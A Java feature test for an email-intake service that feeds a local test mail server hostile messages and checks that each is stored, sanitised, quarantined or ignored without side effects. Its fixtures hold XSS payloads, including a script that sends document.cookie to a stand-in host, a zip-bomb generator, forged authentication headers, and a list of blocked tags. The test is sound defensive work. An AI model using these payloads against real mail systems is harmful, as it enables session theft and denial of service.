package io.dunlin.core.inbox;

import static org.assertj.core.api.Assertions.assertThat;

import io.dunlin.core.cases.CaseId;
import io.dunlin.core.cases.CaseQueries;
import io.dunlin.core.inbox.InboxProperties.Mailbox;
import io.dunlin.core.inbox.InboxProperties.Security;
import io.dunlin.core.inbox.mail.MailLimits;
import io.dunlin.core.inbox.mail.ReadMail;
import io.dunlin.core.inbox.mail.SafeHtml;
import io.dunlin.core.testing.FeatureTest;
import io.dunlin.core.testing.TestingClock;
import io.dunlin.core.testing.TestingWorld;
import io.dunlin.core.triage.ReviewQueries;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Everything that a mail can be made of to do harm, in one mailbox, the whole way: each is kept as it came, shown without
 * doing anything, answered by nothing, moves no money, and stops nothing that comes after it. What each limit cuts is told by
 * the tests of the reader.
 */
@FeatureTest
class HostileIntakeTest {

    private static final int HUGE = 100 * 1024 * 1024;

    @Autowired
    private MailboxReader reader;

    @Autowired
    private Inbox inbox;

    @Autowired
    private InboxQueries queries;

    @Autowired
    private ReviewQueries replies;

    @Autowired
    private CaseQueries cases;

    @Autowired
    private TestingWorld world;

    @Autowired
    private TestingClock clock;

    @Autowired
    private Jdbi jdbi;

    @Test
    void all_that_is_hostile_is_kept_shown_and_never_believed_and_stops_nothing() throws IOException {
        CaseId id = world.caseOf(
                world.receivable("zly", "FV/7/2026", "1230.00", clock.today().minusDays(10)));
        String subject = "Re: " + cases.get(id).reference().value();
        long entries = count("ledger_entry");
        Map<String, byte[]> mails = mails(subject);
        try (TestingImapServer server = new TestingImapServer()) {
            long uid = 0;
            for (byte[] mail : mails.values()) {
                uid++;
                server.with(uid, mail);
            }
            reader.takeIn(box(server));
        }
        world.untilIdle();

        Map<String, InboundMail> stored = queries.page(new InboxQueries.Filter(null, null), null, 100).stream()
                .collect(Collectors.toMap(
                        mail -> String.valueOf(mail.messageId()).replace("@debtors.example", ""), Function.identity()));
        assertThat(stored).containsOnlyKeys(mails.keySet());
        mails.forEach((name, raw) -> {
            InboundMail mail = stored.get(name);
            byte[] kept = inbox.raw(mail.id());
            if (name.equals("huge")) {
                assertThat(mail.state()).isEqualTo(InboundMail.State.QUARANTINED);
                assertThat(mail.quarantineReason()).contains("TOO_LARGE");
                assertThat(kept).hasSize((int) MailLimits.STANDARD.messageBytes() + 1);
                assertThat(Arrays.mismatch(kept, raw)).isEqualTo(kept.length);
                return;
            }
            assertThat(Arrays.equals(kept, raw))
                    .as("%s is kept as it came", name)
                    .isTrue();
            assertThat(mail.state()).as(name).isEqualTo(InboundMail.State.TRIAGED);
            assertThat(replies.ofMail(mail.id().value()))
                    .as("%s is in the queue or among what was decided", name)
                    .isPresent();
            assertThat(inbox.read(kept)).as(name).isInstanceOfSatisfying(ReadMail.class, read -> {
                String shown = SafeHtml.of(read).html();
                assertThat(shown).as(name).hasSizeLessThan(4_000_000);
                if (read.html() != null) {
                    assertThat(shown.toLowerCase(java.util.Locale.ROOT))
                            .as(name)
                            .doesNotContain(
                                    "<script",
                                    "javascript:",
                                    "onerror",
                                    "onload",
                                    "<img",
                                    "<iframe",
                                    "<object",
                                    "<embed",
                                    "<svg",
                                    "<form",
                                    "<base",
                                    "<meta",
                                    "<link",
                                    "<style",
                                    "t.example",
                                    "url(");
                }
            });
        });
        assertThat(count("ledger_entry")).isEqualTo(entries);
        assertThat(count("outbound_message")).isZero();
        assertThat(count("allocation")).isZero();
    }

    /** By the beginning of each one's Message-ID. */
    private static Map<String, byte[]> mails(String subject) throws IOException {
        Map<String, byte[]> mails = new LinkedHashMap<>();
        String plain = "Content-Type: text/plain; charset=utf-8\r\n";
        mails.put("scripts", mail("scripts", subject, "Content-Type: text/html; charset=utf-8\r\n", """
                <html><head><base href="https://t.example/"><meta http-equiv="refresh" content="0;url=https://t.example/">
                <link rel="stylesheet" href="https://t.example/a.css"><style>p{background:url(https://t.example/b.gif)}</style>
                <script>fetch('https://t.example/?'+document.cookie)</script></head>
                <body onload="x()" background="https://t.example/c.gif"><p style="background-image:url(https://t.example/d.gif)">
                Zapłacę w piątek</p><img src="https://t.example/pixel.gif" width="1"><img src=x onerror=alert(1)>
                <svg><script>alert(2)</script><image href="https://t.example/e.gif"/></svg><iframe src="//t.example/f"></iframe>
                <a href="java&#115;cript:alert(3)">tu</a><object data="https://t.example/g"></object><embed src="//t.example/h">
                <form action="https://t.example/i"><input name="password"></form><video poster="https://t.example/j.gif"></video>
                <table background="https://t.example/k.gif"><tr><td>x</td></tr></table></body></html>
                """));
        StringBuilder parts = new StringBuilder();
        for (int i = 0; i < 10_000; i++) {
            parts.append("--b\r\nContent-Type: text/plain\r\n\r\npart ")
                    .append(i)
                    .append("\r\n");
        }
        mails.put(
                "parts", mail("parts", subject, "Content-Type: multipart/mixed; boundary=b\r\n", parts + "--b--\r\n"));
        mails.put(
                "nested",
                mail(
                        "nested",
                        subject,
                        "Content-Type: message/rfc822\r\n",
                        "Subject: in\r\nContent-Type: message/rfc822\r\n\r\n".repeat(3_000)
                                + "Subject: x\r\n\r\nword\r\n"));
        mails.put(
                "header",
                mail(
                        "header",
                        subject + "a".repeat(1_000_000),
                        "References: " + "<x@y.example> ".repeat(70_000) + "\r\n",
                        "w"));
        mails.put("fields", mail("fields", subject, "X-Field: value\r\n".repeat(70_000), "word"));
        mails.put(
                "bait",
                mail("bait", subject, plain, "> ".repeat(100_000) + "W dniu 1.1.2026 o 10:00 \r\n".repeat(20_000)));
        mails.put(
                "numbers",
                mail("numbers", subject, plain, "FV/1/1/1/1/".repeat(20_000) + "12 345 678 ".repeat(20_000)));
        mails.put(
                "tags",
                mail(
                        "tags",
                        subject,
                        "Content-Type: text/html\r\n",
                        "<div><blockquote type=cite><table><tr><td>".repeat(40_000) + "word"));
        mails.put("zip", mail("zip", subject, "Content-Type: multipart/mixed; boundary=b\r\n", """
                --b
                Content-Type: text/plain

                W załączeniu potwierdzenie.
                --b
                Content-Type: application/zip; name="potwierdzenie.zip"
                Content-Transfer-Encoding: base64

                @ZIP@
                --b--
                """.replace(
                        "@ZIP@", Base64.getMimeEncoder().encodeToString(zipBomb()))
                .replaceAll("\r?\n", "\r\n")));
        mails.put(
                "forged",
                mail(
                        "forged",
                        subject,
                        "Authentication-Results: mx.kancelaria.example; dmarc=pass; spf=pass; dkim=pass\r\n"
                                + "From: <prezes@kancelaria.example>\r\nSender: <zly@debtors.example>\r\n" + plain,
                        "Zapłacę fakturę FV/7/2026 w piątek 20.11.2026.\r\n"));
        byte[] noise = new byte[100_000];
        new Random(20261130).nextBytes(noise);
        mails.put("noise", mail("noise", subject, "", new String(noise, StandardCharsets.ISO_8859_1)));
        byte[] beginning =
                mail("huge", subject, "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n", "");
        byte[] huge = new byte[HUGE];
        Arrays.fill(huge, (byte) 'A');
        System.arraycopy(beginning, 0, huge, 0, beginning.length);
        mails.put("huge", huge);
        mails.put("last", mail("last", "pytanie", plain, "Dzień dobry, proszę o kontakt.\r\n"));
        return mails;
    }

    private static byte[] mail(String name, String subject, String fields, String body) {
        return ("From: <zly@debtors.example>\r\nMessage-ID: <" + name + "@debtors.example>\r\nSubject: " + subject
                        + "\r\nDate: Mon, 16 Nov 2026 09:00:00 +0100\r\nMIME-Version: 1.0\r\n" + fields + "\r\n" + body)
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] zipBomb() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("potwierdzenie.csv"));
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 50; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }

    private long count(String table) {
        return jdbi.withHandle(handle -> handle.createQuery("select count(*) from " + table)
                .mapTo(Long.class)
                .one());
    }

    private static Mailbox box(TestingImapServer server) {
        return new Mailbox(
                "hostile" + server.port(),
                "127.0.0.1",
                server.port(),
                Security.NONE,
                "sprawy@example.com",
                "secret",
                "INBOX",
                "",
                false,
                Duration.ofMinutes(9),
                Duration.ofSeconds(60),
                null);
    }
}
